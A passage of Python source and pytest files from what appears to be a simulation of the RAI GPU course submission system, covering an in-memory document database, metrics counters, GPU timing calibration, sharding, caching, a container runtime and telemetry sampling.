        return self._update(filter, update, upsert=upsert, many=False)

    def update_many(self, filter: dict, update: dict) -> int:
        return self._update(filter, update, upsert=False, many=True)

    def _update(self, filter: dict, update: dict, upsert: bool,
                many: bool) -> int:
        matched_ids = [doc_id for doc_id, doc in self._docs.items()
                       if match_document(doc, filter)]
        if not matched_ids:
            if upsert:
                seed = {k: v for k, v in filter.items()
                        if not k.startswith("$") and not isinstance(v, dict)}
                new_doc = apply_update(seed, update)
                for op_spec in ([update.get("$setOnInsert")] if
                                isinstance(update.get("$setOnInsert"), dict)
                                else []):
                    for path, value in op_spec.items():
                        new_doc.setdefault(path, copy.deepcopy(value))
                self.insert_one(new_doc)
                return 1
            return 0
        if not many:
            matched_ids = matched_ids[:1]
        modified = 0
        for doc_id in matched_ids:
            old = self._docs[doc_id]
            new = apply_update(old, update)
            new["_id"] = doc_id
            if new != old:
                self._index_remove(doc_id, old)
                try:
                    self._index_add(doc_id, new)
                except DuplicateKeyError:
                    self._index_add(doc_id, old)  # restore
                    raise
                self._docs[doc_id] = new
                modified += 1
        return modified

    def delete_one(self, filter: dict) -> int:
        return self._delete(filter, many=False)

    def delete_many(self, filter: dict) -> int:
        return self._delete(filter, many=True)

    def _delete(self, filter: dict, many: bool) -> int:
        doomed = [doc_id for doc_id, doc in self._docs.items()
                  if match_document(doc, filter)]
        if not many:
            doomed = doomed[:1]
        for doc_id in doomed:
            self._index_remove(doc_id, self._docs[doc_id])
            del self._docs[doc_id]
        return len(doomed)

    # -- reads ------------------------------------------------------------

    def _candidates(self, filter: dict):
        """Use an index fast path for top-level equality when possible."""
        for field, condition in filter.items():
            if field.startswith("$") or isinstance(condition, dict):
                continue
            index = self._indexes.get(field)
            if index is not None and not isinstance(condition, (list, dict)):
                ids = index.lookup(condition)
                return [self._docs[i] for i in sorted(ids, key=str)
                        if i in self._docs]
        return list(self._docs.values())

    def find(self, filter: Optional[dict] = None,
             projection: Optional[dict] = None) -> Cursor:
        filter = filter or {}
        matched = [doc for doc in self._candidates(filter)
                   if match_document(doc, filter)]
        return Cursor(matched, projection=projection)

    def find_one(self, filter: Optional[dict] = None,
                 projection: Optional[dict] = None) -> Optional[dict]:
        return self.find(filter, projection).first()

    def count_documents(self, filter: Optional[dict] = None) -> int:
        filter = filter or {}
        if not filter:
            return len(self._docs)
        return sum(1 for doc in self._candidates(filter)
                   if match_document(doc, filter))

    def distinct(self, field: str, filter: Optional[dict] = None) -> List[Any]:
        seen = []
        for doc in self.find(filter or {}):
            value = get_path(doc, field)
            if value is _MISSING:
                continue
            values = value if isinstance(value, list) else [value]
            for v in values:
                if v not in seen:
                    seen.append(v)
        return seen

    def aggregate(self, pipeline: List[dict]) -> List[dict]:
        docs = [copy.deepcopy(d) for d in self._docs.values()]
        return run_pipeline(docs, pipeline)

    def __len__(self) -> int:
        return len(self._docs)

    def estimated_size_bytes(self) -> int:
        """Rough storage footprint (JSON encoding length)."""
        import json
        return sum(len(json.dumps(d, default=str)) for d in self._docs.values())


class DocumentDB:
    """The database: a namespace of collections (paper's MongoDB role)."""

    def __init__(self, sim=None, name: str = "rai"):
        self.sim = sim
        self.name = name
        self._collections: Dict[str, Collection] = {}

    def collection(self, name: str) -> Collection:
        coll = self._collections.get(name)
        if coll is None:
            coll = self._collections[name] = Collection(self, name)
        return coll

    def __getitem__(self, name: str) -> Collection:
        return self.collection(name)

    def collection_names(self) -> List[str]:
        return sorted(self._collections)

    def drop_collection(self, name: str) -> None:
        self._collections.pop(name, None)

    def total_documents(self) -> int:
        return sum(len(c) for c in self._collections.values())

    def estimated_size_bytes(self) -> int:
        return sum(c.estimated_size_bytes()
                   for c in self._collections.values())

    def stats(self) -> dict:
        return {
            "collections": {n: len(c) for n, c in self._collections.items()},
            "total_documents": self.total_documents(),
            "estimated_bytes": self.estimated_size_bytes(),
        }
