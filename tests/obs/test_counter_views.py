"""Legacy counter surfaces are thin views over the metrics registry.

Satellite of the obs PR: planner stats, monitor tallies, and broker
counters all migrated onto :class:`MetricsRegistry`, but every
pre-existing accessor (``coll.planner_stats``, ``monitor.incr``,
``broker.counters``) must keep its old shape so nothing downstream
notices the move.
"""

import pytest

from repro.core.system import RaiSystem
from repro.docdb.database import DocumentDB, PlannerStats
from repro.obs.metrics import MetricsRegistry

pytestmark = pytest.mark.obs

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}


class TestPlannerStatsView:
    def test_dict_surface(self):
        registry = MetricsRegistry()
        stats = PlannerStats(registry, "submissions")
        stats["scans"] += 1
        stats["scans"] += 1
        stats["index_hits"] += 3
        assert stats["scans"] == 2
        assert dict(stats) == {"index_hits": 3, "range_hits": 0,
                               "scans": 2, "docs_examined": 0}
        assert len(stats) == 4

    def test_reset_to_zero_supported(self):
        # ranking rebuilds reset planner tallies — must stay writable.
        registry = MetricsRegistry()
        stats = PlannerStats(registry, "rankings")
        stats["docs_examined"] += 10
        stats["docs_examined"] = 0
        assert stats["docs_examined"] == 0

    def test_data_lives_in_registry_labelled(self):
        registry = MetricsRegistry()
        stats = PlannerStats(registry, "submissions")
        stats["scans"] += 5
        assert registry.value("planner_scans",
                              collection="submissions") == 5
        # A second collection is an independent labelled series.
        other = PlannerStats(registry, "users")
        other["scans"] += 2
        assert registry.value("planner_scans", collection="users") == 2
        assert registry.total("planner_scans") == 7

    def test_unknown_key_raises(self):
        stats = PlannerStats(MetricsRegistry(), "c")
        with pytest.raises(KeyError):
            stats["typo"]
        with pytest.raises(KeyError):
            stats["typo"] = 1

    def test_keys_are_fixed(self):
        stats = PlannerStats(MetricsRegistry(), "c")
        with pytest.raises(TypeError):
            del stats["scans"]

    def test_docdb_aggregates_across_collections(self):
        db = DocumentDB()
        a = db.collection("a")
        b = db.collection("b")
        a.create_index("x")
        a.insert_one({"x": 1})
        b.insert_one({"y": 1})
        a.find({"x": 1})      # index hit on a
        b.find({"y": 1})      # collection scan on b
        agg = db.planner_stats()
        assert agg["index_hits"] >= 1
        assert agg["scans"] >= 1
        # The aggregate equals the sum of the labelled gauges.
        assert agg["scans"] == db.metrics.total("planner_scans")


class TestMonitorCountersInRegistry:
    def test_incr_lands_in_system_registry(self):
        system = RaiSystem.standard(num_workers=1, seed=11)
        system.monitor.incr("jobs_submitted")
        system.monitor.incr("jobs_submitted", 2)
        assert system.metrics.value("jobs_submitted") == 3
        assert system.monitor.counters.get("jobs_submitted") == 3
        assert system.monitor.counters.as_dict()["jobs_submitted"] == 3

    def test_worker_tallies_flow_through(self):
        system = RaiSystem.standard(num_workers=1, seed=11)
        client = system.new_client(team="views")
        client.stage_project(FILES)
        system.run(client.submit())
        # Counters written deep in the worker are visible in the registry.
        assert system.metrics.value("jobs_recorded") == 1
        assert system.metrics.value("worker_fetch_bytes") > 0


class TestBrokerCountersInRegistry:
    def test_prefixed_series_and_legacy_property(self):
        system = RaiSystem.standard(num_workers=1, seed=11)
        client = system.new_client(team="views")
        client.stage_project(FILES)
        system.run(client.submit())
        broker = system.broker
        # Legacy accessors...
        assert broker.counters.get("messages_published") > 0
        assert broker.total_bytes_published > 0
        # ...are views over the shared, prefixed registry series.
        assert system.metrics.value("broker_messages_published") == \
            broker.counters.get("messages_published")
        assert system.metrics.value("broker_bytes_published") == \
            broker.total_bytes_published
        # And they sit in the SAME registry as monitor counters.
        assert system.metrics.value("jobs_recorded") == 1
