"""Unit tests for the GPU timing model and its paper-anchored calibration."""

import pytest

from repro.gpu import get_device
from repro.gpu.device import CPUDevice, GPUDevice
from repro.gpu.kernels import (
    FULL_DATASET_SIZE,
    KernelProfile,
    cnn_job_time,
    estimate_kernel_time,
    job_overhead,
    kernel_timeline,
)


class TestDevices:
    def test_catalog(self):
        assert isinstance(get_device("K80"), GPUDevice)
        assert isinstance(get_device("K40"), GPUDevice)
        assert isinstance(get_device("XEON"), CPUDevice)
        with pytest.raises(KeyError):
            get_device("H100")

    def test_roofline_compute_bound(self):
        gpu = get_device("K80")
        # Huge FLOPs, no bytes: time ≈ flops / peak.
        t = gpu.time_for(flops=4.368e12, bytes_moved=0,
                         compute_efficiency=1.0)
        assert t == pytest.approx(1.0, rel=0.01)

    def test_roofline_bandwidth_bound(self):
        gpu = get_device("K80")
        t = gpu.time_for(flops=0, bytes_moved=240e9,
                         bandwidth_efficiency=1.0)
        assert t == pytest.approx(1.0, rel=0.01)

    def test_launch_overhead_floor(self):
        gpu = get_device("K80")
        assert gpu.time_for(1, 1) >= gpu.kernel_launch_us * 1e-6

    def test_arithmetic_intensity_knee(self):
        gpu = get_device("K80")
        assert gpu.arithmetic_intensity_knee == pytest.approx(
            gpu.peak_gflops_fp32 / gpu.mem_bandwidth_gbs)


class TestKernelProfile:
    def test_quality_monotone_in_efficiency(self):
        lo = KernelProfile.from_quality(0.2)
        hi = KernelProfile.from_quality(0.9)
        assert hi.compute_efficiency > lo.compute_efficiency
        assert hi.bandwidth_efficiency > lo.bandwidth_efficiency

    def test_quality_clamped(self):
        assert KernelProfile.from_quality(-1).compute_efficiency == \
            KernelProfile.from_quality(0).compute_efficiency
        assert KernelProfile.from_quality(2).bandwidth_efficiency == \
            KernelProfile.from_quality(1).bandwidth_efficiency

    def test_estimate_positive(self):
        profile = KernelProfile.from_quality(0.5)
        t = estimate_kernel_time(get_device("K80"), 1e9, 1e8, profile)
        assert t > 0


class TestPaperAnchors:
    """The three runtime anchors the paper states."""

    def test_serial_baseline_about_30_minutes(self):
        t = cnn_job_time(get_device("XEON"), FULL_DATASET_SIZE)
        assert 20 * 60 < t < 45 * 60   # "around 30 minutes" (§VI)

    def test_top_teams_sub_second(self):
        t = cnn_job_time(get_device("K80"), FULL_DATASET_SIZE, quality=0.95)
        assert 0.1 < t < 1.0           # Figure 2: most teams < 1 s

    def test_weak_gpu_port_about_2_minutes(self):
        t = cnn_job_time(get_device("K80"), FULL_DATASET_SIZE, quality=0.0)
        assert 60 < t < 300            # "slowest submission took 2 minutes"

    def test_monotone_in_quality(self):
        gpu = get_device("K80")
        times = [cnn_job_time(gpu, FULL_DATASET_SIZE, q)
                 for q in (0.1, 0.3, 0.5, 0.7, 0.9)]
        assert times == sorted(times, reverse=True)

    def test_k40_slower_than_k80_at_same_quality(self):
        """Why the course moved from G2 to P2 instances (§VII)."""
        t40 = cnn_job_time(get_device("K40"), FULL_DATASET_SIZE, 0.5)
        t80 = cnn_job_time(get_device("K80"), FULL_DATASET_SIZE, 0.5)
        assert abs(t40 - t80) / t80 < 0.5  # same class of card...
        # ...the decisive difference in §VII was availability/density,
        # modelled in the cluster layer, not raw kernel speed.

    def test_overhead_floor(self):
        assert job_overhead(10) < job_overhead(FULL_DATASET_SIZE)
        assert job_overhead(FULL_DATASET_SIZE, on_gpu=True) > \
            job_overhead(FULL_DATASET_SIZE, on_gpu=False)


class TestTimeline:
    def test_rows_cover_compute_layers(self):
        rows = kernel_timeline(get_device("K80"), 10, quality=0.8)
        names = [r["name"] for r in rows]
        assert "conv1_kernel" in names and "fc1_kernel" in names

    def test_starts_are_cumulative(self):
        rows = kernel_timeline(get_device("K80"), 10, quality=0.8)
        t = 0.0
        for row in rows:
            assert row["start"] == pytest.approx(t)
            t += row["duration"]
