"""Unit tests for class generation."""

import numpy as np
import pytest

from repro.workload import make_class


class TestMakeClass:
    def test_paper_numbers(self):
        students, teams = make_class(176, 58,
                                     rng=np.random.default_rng(0))
        assert len(students) == 176
        assert len(teams) == 58

    def test_team_sizes_2_to_4(self):
        _, teams = make_class(176, 58, rng=np.random.default_rng(0))
        sizes = [t.size for t in teams]
        assert all(2 <= s <= 4 for s in sizes)
        assert sum(sizes) == 176

    def test_every_student_on_exactly_one_team(self):
        students, teams = make_class(60, 20, rng=np.random.default_rng(1))
        seen = [m.user_id for t in teams for m in t.members]
        assert sorted(seen) == sorted(s.user_id for s in students)
        assert len(set(seen)) == len(seen)

    def test_impossible_split_rejected(self):
        with pytest.raises(ValueError):
            make_class(10, 1)    # would need a team of 10
        with pytest.raises(ValueError):
            make_class(10, 6)    # can't fill 6 teams of >= 2

    def test_skills_in_range_and_mixed(self):
        _, teams = make_class(176, 58, rng=np.random.default_rng(2))
        skills = [t.skill for t in teams]
        assert all(0 <= s <= 1 for s in skills)
        assert max(skills) > 0.75      # there are strong teams
        assert min(skills) < 0.6       # and struggling ones

    def test_struggling_fraction_zero(self):
        _, teams = make_class(40, 12, rng=np.random.default_rng(3),
                              struggling_fraction=0.0)
        assert min(t.skill for t in teams) >= 0.6

    def test_deterministic_under_seed(self):
        a = make_class(30, 10, rng=np.random.default_rng(7))
        b = make_class(30, 10, rng=np.random.default_rng(7))
        assert [t.skill for t in a[1]] == [t.skill for t in b[1]]

    def test_roster_entries(self):
        students, _ = make_class(30, 10, rng=np.random.default_rng(0))
        entry = students[0].roster_entry()
        assert entry.user_id == "student001"
        assert entry.email.endswith("@illinois.edu")
