"""Worker chunk-fetch-cache eviction accounting: shared chunks, padding."""

from types import SimpleNamespace

import pytest

from repro.core.config import WorkerConfig
from repro.core.system import RaiSystem

pytestmark = pytest.mark.buildcache


def _worker(budget):
    system = RaiSystem.standard(
        num_workers=1, seed=51,
        worker_config=WorkerConfig(fetch_cache_bytes=budget))
    return system.workers[0]


def _chunked(etag, chunks, padding=0):
    """A stand-in for a ChunkedObject: (digest, size) chunk list."""
    manifest = SimpleNamespace(
        chunks=[SimpleNamespace(digest=d, size=s) for d, s in chunks])
    return SimpleNamespace(manifest=manifest, etag=etag,
                           padding_bytes=padding)


def _plain(etag, size):
    return SimpleNamespace(manifest=None, etag=etag, size=size,
                           padding_bytes=0)


class TestSharedChunkAccounting:
    def test_shared_chunks_counted_once(self):
        worker = _worker(budget=10_000)
        a = _chunked("etag-a", [("c1", 100), ("c2", 200)])
        b = _chunked("etag-b", [("c1", 100), ("c3", 300)])
        assert worker._fetch_transfer_bytes(a) == 300
        # c1 is already resident: only c3 moves.
        assert worker._fetch_transfer_bytes(b) == 300
        stats = worker.fetch_cache_stats()
        assert stats["entries"] == 3          # c1, c2, c3 — c1 held once
        assert stats["bytes"] == 600
        assert stats["hit_bytes"] == 100
        assert stats["miss_bytes"] == 600
        assert stats["evictions"] == 0

    def test_padding_tracked_as_pseudo_entry(self):
        worker = _worker(budget=10_000)
        obj = _chunked("etag-p", [("c1", 100)], padding=50)
        assert worker._fetch_transfer_bytes(obj) == 150
        assert "etag-p:padding" in worker._fetch_cache
        # Same object again: chunk and padding both hit.
        assert worker._fetch_transfer_bytes(obj) == 0
        assert worker.fetch_cache_stats()["hit_bytes"] == 150

    def test_eviction_keeps_byte_accounting_exact(self):
        worker = _worker(budget=500)
        worker._fetch_transfer_bytes(
            _chunked("e1", [("c1", 200), ("c2", 200)]))
        assert worker.fetch_cache_stats()["bytes"] == 400
        # 300 more bytes blow the 500 budget: the LRU entry (c1) evicts,
        # and exactly its 200 bytes come off the occupancy counter.
        worker._fetch_transfer_bytes(_chunked("e2", [("c3", 300)]))
        stats = worker.fetch_cache_stats()
        assert stats["bytes"] == sum(worker._fetch_cache.values())
        assert stats["bytes"] <= 500
        assert stats["evictions"] == 1
        assert set(worker._fetch_cache) == {"c2", "c3"}

    def test_evicted_chunk_refetches_and_recounts(self):
        worker = _worker(budget=250)
        worker._fetch_transfer_bytes(_chunked("e1", [("c1", 200)]))
        worker._fetch_transfer_bytes(_chunked("e2", [("c2", 200)]))  # evicts c1
        assert "c1" not in worker._fetch_cache
        # c1 must transfer again — the earlier hit path is gone.
        assert worker._fetch_transfer_bytes(
            _chunked("e1", [("c1", 200)])) == 200
        stats = worker.fetch_cache_stats()
        assert stats["hit_bytes"] == 0
        assert stats["miss_bytes"] == 600
        assert stats["evictions"] == 2

    def test_shared_chunk_eviction_affects_both_objects(self):
        """A chunk shared by two manifests is one LRU entry: evicting it
        makes *both* objects pay transfer again."""
        worker = _worker(budget=400)
        a = _chunked("ea", [("shared", 300)])
        b = _chunked("eb", [("shared", 300), ("own", 50)])
        worker._fetch_transfer_bytes(a)
        assert worker._fetch_transfer_bytes(b) == 50
        # Blow the budget so "shared" (LRU order: shared, own) evicts.
        worker._fetch_transfer_bytes(_chunked("ec", [("big", 350)]))
        assert "shared" not in worker._fetch_cache
        assert worker._fetch_transfer_bytes(a) == 300
        assert worker.fetch_cache_stats()["bytes"] == \
            sum(worker._fetch_cache.values())

    def test_zero_budget_disables_caching(self):
        worker = _worker(budget=0)
        obj = _chunked("e1", [("c1", 100)])
        assert worker._fetch_transfer_bytes(obj) == 100
        assert worker._fetch_transfer_bytes(obj) == 100
        stats = worker.fetch_cache_stats()
        assert stats["entries"] == 0
        assert stats["hit_bytes"] == 0
        assert stats["evictions"] == 0

    def test_plain_object_keyed_by_etag(self):
        worker = _worker(budget=1_000)
        assert worker._fetch_transfer_bytes(_plain("pe", 400)) == 400
        assert worker._fetch_transfer_bytes(_plain("pe", 400)) == 0
        assert worker.fetch_cache_stats()["hit_rate"] == 0.5
