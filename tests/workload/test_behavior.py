"""Unit tests for the submission-behaviour model."""

import numpy as np
import pytest

from repro.workload.behavior import (
    CIRCADIAN_WEIGHTS,
    DAY,
    HOUR,
    circadian_weight,
    deadline_boost,
    sample_think_time,
    submission_rate,
)


class TestCircadian:
    def test_24_weights_mean_one(self):
        assert len(CIRCADIAN_WEIGHTS) == 24
        mean = np.mean([circadian_weight(h * HOUR) for h in range(24)])
        assert mean == pytest.approx(1.0)

    def test_night_quieter_than_evening(self):
        assert circadian_weight(4 * HOUR) < circadian_weight(20 * HOUR) / 5

    def test_wraps_across_days(self):
        assert circadian_weight(3 * HOUR) == \
            circadian_weight(3 * HOUR + 5 * DAY)


class TestDeadlineBoost:
    def test_increases_toward_deadline(self):
        deadline = 14 * DAY
        early = deadline_boost(0, deadline)
        late = deadline_boost(deadline - DAY, deadline)
        assert late > early * 3

    def test_saturates(self):
        deadline = 14 * DAY
        assert deadline_boost(deadline - 60, deadline) <= 6.0 + 0.35

    def test_collapses_after_deadline(self):
        assert deadline_boost(15 * DAY, 14 * DAY) < 0.1


class TestThinkTimes:
    def test_bounds_respected(self):
        rng = np.random.default_rng(0)
        deadline = 14 * DAY
        for t in np.linspace(0, deadline, 50):
            think = sample_think_time(rng, t, deadline)
            assert 35.0 <= think <= 8 * HOUR

    def test_minimum_exceeds_rate_limit_window(self):
        """Teams physically cannot trip the 30s limit by think time."""
        rng = np.random.default_rng(0)
        think = sample_think_time(rng, 13.9 * DAY, 14 * DAY)
        assert think > 30.0

    def test_mean_think_shrinks_near_deadline(self):
        rng = np.random.default_rng(0)
        deadline = 14 * DAY
        early = np.mean([sample_think_time(rng, 12 * HOUR, deadline)
                         for _ in range(400)])
        late = np.mean([sample_think_time(rng, deadline - 12 * HOUR,
                                          deadline) for _ in range(400)])
        assert late < early / 2

    def test_rate_composition(self):
        deadline = 14 * DAY
        quiet = submission_rate(4 * HOUR, deadline)          # 4 am day 0
        busy = submission_rate(deadline - 4 * HOUR, deadline)  # evening rush
        assert busy > quiet * 10
