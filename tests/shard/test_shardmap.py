"""ShardMap/Router: stable seeded hashing, naming, key precedence."""

import pytest

from repro.shard import Router, ShardMap

pytestmark = pytest.mark.shard


class TestShardMap:
    def test_partition_stable_across_instances(self):
        # Placement is durable state: two maps (two processes, or one
        # process before and after a restore) must agree on every key.
        a, b = ShardMap(8), ShardMap(8)
        keys = [f"team{i:03d}" for i in range(300)]
        assert [a.partition(k) for k in keys] == \
               [b.partition(k) for k in keys]

    def test_seed_rekeys_the_map(self):
        keys = [f"team{i:03d}" for i in range(300)]
        a = [ShardMap(8, seed=0).partition(k) for k in keys]
        b = [ShardMap(8, seed=1).partition(k) for k in keys]
        assert a != b

    def test_partition_range_and_rough_balance(self):
        smap = ShardMap(8)
        counts = [0] * 8
        for i in range(4096):
            p = smap.partition(f"course-team-{i}")
            assert 0 <= p < 8
            counts[p] += 1
        # Keyed blake2b over distinct keys: every bucket populated,
        # no bucket dramatically over- or under-full.
        assert min(counts) > 4096 / 8 * 0.6
        assert max(counts) < 4096 / 8 * 1.5

    def test_non_string_keys_hash_as_text(self):
        smap = ShardMap(4)
        assert smap.partition(408) == smap.partition("408")
        assert smap.partition(None) == smap.partition("")

    def test_naming(self):
        smap = ShardMap(4)
        assert smap.topic(2) == "tasks.p2"
        assert smap.route(2) == "tasks.p2/tasks"
        assert smap.collection("submissions", 3) == "submissions.p3"
        assert list(smap.partitions()) == [0, 1, 2, 3]
        with pytest.raises(ValueError):
            smap.topic(4)

    def test_key_of_first_truthy_precedence(self):
        # Same precedence as the fair-share scheduler's _key.
        assert ShardMap.key_of({"team": "t", "username": "u"}) == "t"
        assert ShardMap.key_of({"team": "", "username": "u"}) == "u"
        assert ShardMap.key_of({"username": ""}) == ""
        assert ShardMap.key_of({}) == ""
        assert ShardMap.key_of({"team": 7}) == "7"

    def test_partition_of_document(self):
        smap = ShardMap(8)
        doc = {"team": "alpha", "username": "zoe"}
        assert smap.partition_of(doc) == smap.partition("alpha")

    def test_identity(self):
        assert ShardMap(4, seed=2) == ShardMap(4, seed=2)
        assert ShardMap(4) != ShardMap(8)
        assert ShardMap(4, seed=0) != ShardMap(4, seed=1)
        assert ShardMap(4, seed=2).to_dict() == \
               {"n_partitions": 4, "seed": 2}

    def test_validation(self):
        with pytest.raises(ValueError):
            ShardMap(0)
        with pytest.raises(ValueError):
            ShardMap(4, seed=-1)


class TestRouter:
    def test_route_counts_per_partition(self):
        smap = ShardMap(4)
        router = Router(smap)
        keys = [f"team{i}" for i in range(40)]
        for key in keys:
            partition, topic = router.route(key)
            assert partition == smap.partition(key)
            assert topic == smap.topic(partition)
        assert sum(router.routed) == 40

    def test_route_message_uses_key_precedence(self):
        router = Router(ShardMap(8))
        body = {"team": "alpha", "username": "zoe", "j": 1}
        partition, _ = router.route_message(body)
        assert partition == router.shard_map.partition("alpha")
