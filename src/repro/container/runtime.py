"""The container engine a worker drives."""

from __future__ import annotations

from typing import Callable, List, Optional

from repro.container.container import Container
from repro.container.image import ImageRegistry, default_registry
from repro.container.limits import ResourceLimits
from repro.container.volumes import VolumeMount


class ContainerRuntime:
    """Per-worker Docker-engine stand-in.

    Tracks a local image cache: the first job needing an image pays the
    registry pull ("if the machine does not have the Docker image, then
    it's pulled from the Docker repository", §V Worker Operations step 3);
    later jobs on the same worker start instantly.
    """

    def __init__(self, registry: Optional[ImageRegistry] = None,
                 pull_bandwidth_bps: float = 100e6,
                 clock: Optional[Callable[[], float]] = None):
        self.registry = registry if registry is not None else default_registry()
        self.pull_bandwidth_bps = pull_bandwidth_bps
        self.clock = clock
        self._image_cache: set = set()
        self.containers: List[Container] = []
        self.total_created = 0
        self.total_destroyed = 0

    def pull_cost_seconds(self, image_name: str) -> float:
        """Seconds the next ``create_container`` will spend pulling."""
        if image_name in self._image_cache:
            return 0.0
        image = self.registry.get(image_name)
        return image.pull_seconds(self.pull_bandwidth_bps)

    def create_container(self, image_name: str,
                         limits: Optional[ResourceLimits] = None,
                         mounts: Optional[List[VolumeMount]] = None,
                         gpu_device=None,
                         on_output=None) -> Container:
        """Validate against the whitelist, pull if needed, and create.

        Raises :class:`~repro.errors.ImageNotWhitelisted` /
        :class:`~repro.errors.ImageNotFound` before any resources are
        committed.
        """
        image = self.registry.get(image_name)
        self._image_cache.add(image_name)
        container = Container(
            image=image,
            limits=limits or ResourceLimits(),
            mounts=mounts or [],
            gpu_device=gpu_device,
            on_output=on_output,
            clock=self.clock,
        )
        self.containers.append(container)
        self.total_created += 1
        return container

    def destroy_container(self, container: Container) -> None:
        container.destroy()
        if container in self.containers:
            self.containers.remove(container)
        self.total_destroyed += 1

    @property
    def live_count(self) -> int:
        return len(self.containers)

    def stats(self) -> dict:
        return {
            "created": self.total_created,
            "destroyed": self.total_destroyed,
            "live": self.live_count,
            "cached_images": sorted(self._image_cache),
        }
