"""Sharding off must cost nothing: N=1 identity and overhead smoke.

Tier-1 guard for the shard PR's acceptance bar — ``shards=1`` is not an
"equivalent mode", it is byte-for-byte the pre-shard control plane: the
same delivery order (golden digest), and wall clock within noise of the
default config (the only added work is a config check at construction).
"""

import pytest

from repro.core.config import SystemConfig
from repro.workload.hotpath import SMOKE_SCALE, run_hotpath
from repro.workload.shardbench import GOLDEN_DIGEST, control_plane_digest

pytestmark = [pytest.mark.perf, pytest.mark.shard]


def test_shards_one_reproduces_the_golden_digest():
    digest, statuses, n = control_plane_digest(
        config=SystemConfig(shards=1))
    assert digest == GOLDEN_DIGEST
    assert statuses == ["succeeded"]
    assert n == 18


def test_default_config_reproduces_the_golden_digest():
    digest, _, _ = control_plane_digest()
    assert digest == GOLDEN_DIGEST


def _overhead_ratio() -> float:
    # Interleaved pairs, judged by whichever of two fair estimators is
    # smaller — ratio of sums (averages slow machine drift) and ratio
    # of minimums (quiet-window cost) — since on a loaded box either
    # one alone can be unlucky by more than the whole 5% budget.
    samples = [
        (run_hotpath(SMOKE_SCALE,
                     config=SystemConfig(shards=1))["wall_clock_s"],
         run_hotpath(SMOKE_SCALE)["wall_clock_s"])
        for _ in range(4)]
    sum_on = sum(s for s, _ in samples)
    sum_off = sum(s for _, s in samples)
    min_on = min(s for s, _ in samples)
    min_off = min(s for _, s in samples)
    if sum_off <= 0 or min_off <= 0:
        return 1.0
    return min(sum_on / sum_off, min_on / min_off)


def test_shards_one_wall_clock_overhead_under_five_percent():
    # A true regression fails both attempts; a one-off noise spike
    # does not.
    ratio = _overhead_ratio()
    if ratio >= 1.05:
        ratio = min(ratio, _overhead_ratio())
    assert ratio < 1.05, (
        f"shards=1 overhead {100 * (ratio - 1):.1f}% exceeds 5% budget")
