"""Operational telemetry: the data behind §VII's provisioning decisions.

The course staff watched queue depth, worker utilisation, and submission
bursts to decide when to move from G2 to P2 instances and when to grow
the fleet ("we found that students worked in bursts, which required RAI
to be elastic to remain reliable and cost-efficient").  This module
samples those signals into the system monitor and renders an operator
health report.
"""

from __future__ import annotations

from typing import List, Optional

from repro.analysis.report import format_bytes, render_table


class TelemetrySampler:
    """Periodically samples deployment health into the system monitor.

    Samples (as monitor time series):

    - ``queue_depth`` — jobs waiting (incl. topic backlog);
    - ``workers_running`` / ``jobs_active`` — fleet state;
    - ``storage_bytes`` — file-server footprint;
    - ``in_flight`` — broker messages delivered but unacked;
    - ``dead_letters`` — poison messages awaiting the dead-letter drain;
    - ``faults_injected`` / ``storage_retries`` — cumulative chaos and
      recovery activity (flat at 0 in a clean run).

    Each sample also bumps a ``telemetry_heartbeats`` counter and stamps
    :attr:`last_heartbeat_at`, so a stuck sampler (or a stuck simulation)
    is itself observable — :meth:`is_stuck` flags a heartbeat gap of more
    than twice the sampling interval, and the health report surfaces it.
    """

    def __init__(self, system, interval: float = 300.0):
        self.system = system
        self.interval = interval
        self._stopped = False
        #: Simulated time sampling began (set when :meth:`run` starts).
        self.started_at: Optional[float] = None
        #: Simulated time of the most recent completed sample.
        self.last_heartbeat_at: Optional[float] = None

    def stop(self) -> None:
        self._stopped = True

    def is_stuck(self, now: Optional[float] = None) -> bool:
        """True when the sampler should have heartbeat but has not.

        A deliberately stopped sampler is not stuck; one that has never
        run (``started_at`` unset) cannot be judged and reports False.
        """
        if self._stopped or self.started_at is None:
            return False
        if now is None:
            now = self.system.sim.now
        last = self.last_heartbeat_at if self.last_heartbeat_at is not None \
            else self.started_at
        return now - last > 2 * self.interval

    def notify_alerts(self, alerts=None) -> None:
        """Route the stuck/recovered state through the alert manager.

        Firing is idempotent per incident: however often this runs (each
        ``health_report`` call does), a stall opens exactly one
        ``stuck:telemetry-sampler`` incident, resolved when heartbeats
        resume — the incident history is the audit trail.
        """
        if alerts is None:
            alerts = getattr(self.system, "alerts", None)
        if alerts is None:
            return
        now = self.system.sim.now
        if self.is_stuck(now):
            last = self.last_heartbeat_at if self.last_heartbeat_at \
                is not None else self.started_at
            alerts.fire("stuck:telemetry-sampler",
                        summary=f"no telemetry heartbeat for "
                                f"{now - last:.0f}s "
                                f"(interval {self.interval:.0f}s)",
                        last_beat=last, interval=self.interval)
        else:
            alerts.resolve("stuck:telemetry-sampler")

    def run(self):
        """Kernel process; start with ``sim.process(sampler.run())``.

        The signal list is no longer hand-maintained here: every
        *callback-backed, unlabelled* gauge in the system's metrics
        registry (queue depth, fleet state, broker health — registered by
        :class:`~repro.core.system.RaiSystem`) is sampled into a monitor
        time series of the same name.
        """
        monitor = self.system.monitor
        metrics = self.system.metrics
        self.started_at = self.system.sim.now
        while not self._stopped:
            yield self.system.sim.timeout(self.interval)
            for gauge in metrics.gauges():
                if gauge.labels or gauge.fn is None:
                    continue
                monitor.record(gauge.name, gauge.value)
            monitor.record("faults_injected",
                           monitor.counters.get("faults_injected"))
            monitor.record("storage_retries",
                           monitor.counters.get("storage_retries"))
            monitor.incr("telemetry_heartbeats")
            self.last_heartbeat_at = self.system.sim.now

    # -- analysis ------------------------------------------------------------

    def peak(self, name: str) -> float:
        series = self.system.monitor.series.get(name)
        return series.maximum() if series is not None else float("nan")

    def average(self, name: str) -> float:
        series = self.system.monitor.series.get(name)
        return series.time_average() if series is not None else float("nan")


def health_report(system, sampler: Optional[TelemetrySampler] = None) -> str:
    """An operator-facing snapshot + (if sampled) time-averaged signals."""
    stats = system.stats()
    rows: List[list] = [
        ["simulated time", f"{stats['now'] / 3600:.1f} h"],
        ["workers running",
         f"{stats['workers']['running']}/{stats['workers']['total']}"],
        ["jobs completed", stats["workers"]["jobs_completed"]],
        ["jobs failed", stats["workers"]["jobs_failed"]],
        ["queue depth (now)", stats["queue_depth"]],
        ["submissions recorded", stats["submissions_recorded"]],
        ["file server", format_bytes(stats["storage"]["total_bytes"])],
        ["db documents", stats["database"]["total_documents"]],
